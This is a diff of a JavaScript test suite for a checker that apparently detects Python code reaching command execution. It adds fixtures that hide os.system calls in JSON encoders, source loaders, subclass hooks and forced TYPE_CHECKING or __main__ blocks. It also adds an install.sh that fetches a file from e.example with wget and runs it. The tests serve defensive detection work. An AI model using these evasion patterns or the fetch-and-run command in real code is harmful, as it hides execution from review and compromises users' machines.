@@ -59,6 +59,24 @@ describe('the checks hold a function that is reached', () => {
       'by a test for subclasses',
       'import abc, os\nclass B(abc.ABC):\n    @classmethod\n    def __subclasshook__(cls, c): os.system("a")\nissubclass(int, B)\n',
     ],
+    ['by an encoder', 'import os, json\njson.dumps(object(), default=lambda o: os.system("a"))\n'],
+    [
+      'by the class of an encoder',
+      'import os, json\nclass E(json.JSONEncoder):\n    def default(self, o): os.system("a")\njson.dumps(object(), cls=E)\n',
+    ],
+    [
+      'by a loader of sources',
+      'import importlib.abc as a, importlib.util as u\nclass L(a.InspectLoader):\n    def get_source(self, n): return "a()"\ns = u.spec_from_loader("v", L())\ns.loader.exec_module(u.module_from_spec(s))\n',
+    ],
+    ['in a block for types that runs', 'import os\nTYPE_CHECKING = True\nif TYPE_CHECKING:\n    os.system("a")\n'],
+    [
+      'in a main block that runs at import',
+      '__name__ = "__main__"\nif __name__ == "__main__":\n    import os\n    os.system("a")\n',
+    ],
+    [
+      'by a subclass hook of a class without a definition',
+      'import os\nX = type("X", (), {"__init_subclass__": classmethod(lambda c: os.system("a"))})\n',
+    ],
     [
       'by a formatter',
       'import os, string\nclass F(string.Formatter):\n    def get_value(self, k, a, n): return os.popen(k).read()\nF().format("{a}")\n',
@@ -112,6 +130,10 @@ describe('the checks hold at import', () => {
       'import os, yaml\nyaml.load(open(os.path.join(os.path.dirname(__file__), "a.yaml")), Loader=yaml.Loader)\n',
     ],
     [
+      'an installer that fetches with joined options',
+      { '__init__.py': '', 'install.sh': 'wget -qO /tmp/i https://e.example/i\nchmod +x /tmp/i\n/tmp/i\n' },
+    ],
+    [
       'a hostile conftest in a folder',
       { '__init__.py': '', 'tests/conftest.py': `import os\nos.system("${HOSTILE}")\n` },
     ],
@@ -140,6 +162,11 @@ describe('the checks do not hold', () => {
       'import subprocess\ndef run(self): return subprocess.run(["a"])\nX = type("X", (), {"FUNCTION": "run", "run": run})\n',
     ],
     ['reading the source of a module', 'import execution\nprint(open(execution.__file__).read())\n'],
+    ['a fallback for types', 'TYPE_CHECKING = False\nif TYPE_CHECKING:\n    import os\n    os.system("a")\n'],
+    [
+      'data that is encoded',
+      'import json\nclass E(json.JSONEncoder):\n    def default(self, o): return str(o)\njson.dumps({}, cls=E)\n',
+    ],
     ['data that names a function', 'import json\njson.loads(json.dumps({"exec": "os.system"}))\n'],
     ['items of a dictionary', 'import os\nfor k, v in {"a": os.path.join}.items():\n    v("a", "b")\n'],
     ['a reversed list', 'for f in reversed([len, str]):\n    f("a")\n'],
